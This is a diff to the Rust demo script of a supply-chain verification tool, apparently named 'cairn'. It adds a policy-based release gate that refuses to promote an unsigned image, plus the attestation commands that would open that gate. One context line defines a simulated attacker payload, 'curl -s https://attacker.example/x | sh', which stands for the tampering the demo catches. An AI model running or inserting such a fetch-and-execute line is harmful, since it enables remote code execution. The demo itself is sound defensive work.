@@ -49,6 +49,19 @@ const BUILDER_ID: &str = "https://example.com/cairn-demo/builder";
 /// The line the attacker appends to the built program.
 const EVIL_LINE: &str = r#"import os; os.system("curl -s https://attacker.example/x | sh")"#;
 
+/// The release policy: carol's key must have signed SLSA provenance from the demo builder and
+/// an SPDX SBOM with at least one package and no denied one.
+const POLICY: &str = include_str!("../../../../examples/demo/policy.yaml");
+
+/// What the demo cannot run offline: signing into Sigstore bundles needs Rekor or a TSA.
+const OPEN_THE_GATE: &[&str] = &[
+    "cairn attest sbom.spdx.json --type spdx --subject hello-1.0.tar --key keys/carol --tlog-upload --bundle sbom.sigstore.json",
+    "cairn verify artifact hello-1.0.tar --bundle sbom.sigstore.json --key keys/carol.pub",
+    "cairn attach oci:staging:1.0 --bundle provenance.sigstore.json --bundle sbom.sigstore.json",
+    "cairn verify image oci:staging:1.0 --policy policy.yaml",
+    "cairn promote oci:staging:1.0 oci:prod:1.0 --policy policy.yaml",
+];
+
 /// `demo` arguments.
 ///
 /// Example: cairn demo --keep
@@ -522,6 +535,43 @@ fn script(r: &mut Runner<'_>) -> anyhow::Result<()> {
         );
     }
     r.note("the verdict names the file, the step that changed it and both digests")?;
+
+    r.heading(
+        "promote",
+        "7. The release gate: a policy, and promotion between two OCI layouts",
+    )?;
+    write(&r.path("policy.yaml"), POLICY.as_bytes())?;
+    r.shell("cat > policy.yaml <<'EOF' ... EOF   # shown below")?;
+    for line in POLICY.lines() {
+        r.ctx.out(format!("    {line}"))?;
+    }
+    r.cairn(None, &["policy", "check", "policy.yaml"], Pass)?;
+    r.note(
+        "the image has no signed provenance or SBOM attached yet: the gate must stay shut \
+         (fail closed)",
+    )?;
+    r.cairn(
+        None,
+        &[
+            "promote",
+            "oci:staging:1.0",
+            "oci:prod:1.0",
+            "--policy",
+            "policy.yaml",
+        ],
+        Fail,
+    )?;
+    if r.path("prod/index.json").exists()
+        && std::fs::read_to_string(r.path("prod/index.json"))?.contains("\"1.0\"")
+    {
+        anyhow::bail!("the refused promotion tagged prod:1.0");
+    }
+    r.note("nothing was copied: prod/ has no 1.0 tag")?;
+    r.note(
+        "signing the provenance and SBOM (cairn attest) needs a transparency log or an RFC 3161 \
+         timestamp authority, which this offline demo does not have: the summary shows the \
+         commands that open the gate",
+    )?;
     Ok(())
 }
 
@@ -548,6 +598,7 @@ fn summary(r: &Runner<'_>, root: &Path, kept: bool) -> anyhow::Result<()> {
     ctx.out(ctx.paint("== Summary", "1"))?;
     ctx.out("  pass  the honest build verifies against the owner's signed layout")?;
     ctx.out("  FAIL  the tampered build is rejected, naming the changed file (as expected)")?;
+    ctx.out("  FAIL  the image without signed attestations is not promoted (as expected)")?;
     ctx.out("")?;
     ctx.out("Repeat it by hand (POSIX sh, `cairn` on your PATH) in an empty directory, after")?;
     ctx.out("`mkdir upstream && cp -R examples/demo/project upstream/hello-1.0`:")?;
@@ -558,6 +609,12 @@ fn summary(r: &Runner<'_>, root: &Path, kept: bool) -> anyhow::Result<()> {
             ctx.out(format!("  # {sec}"))?;
         }
         ctx.out(format!("  {shown}"))?;
+    }
+    ctx.out("")?;
+    ctx.out("To open the gate, sign with a transparency log (a key and --tlog-upload, or keyless")?;
+    ctx.out("in CI), attach provenance and SBOM bundles whose subject is the image, and promote:")?;
+    for line in OPEN_THE_GATE {
+        ctx.out(format!("  {line}"))?;
     }
     ctx.out("")?;
     if kept {
